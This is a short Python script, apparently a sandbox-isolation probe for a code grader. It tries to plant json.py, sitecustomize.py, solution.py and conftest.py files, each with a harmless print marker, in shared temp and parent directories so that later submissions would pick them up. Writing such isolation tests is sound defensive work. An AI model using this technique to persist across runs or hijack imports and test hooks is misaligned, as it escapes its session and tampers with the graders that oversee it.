import os, tempfile
for _d in ("/w", "/w/1", "/w/2", "/w/3", "/tmp", "/dev/shm", tempfile.gettempdir(), os.path.dirname(os.getcwd())):
    for _n in ("json.py", "sitecustomize.py", "solution.py", "conftest.py"):
        try: open(os.path.join(_d, _n), "w").write("print('PLANTED BY AN EARLIER SUBMISSION')\n")
        except OSError: pass
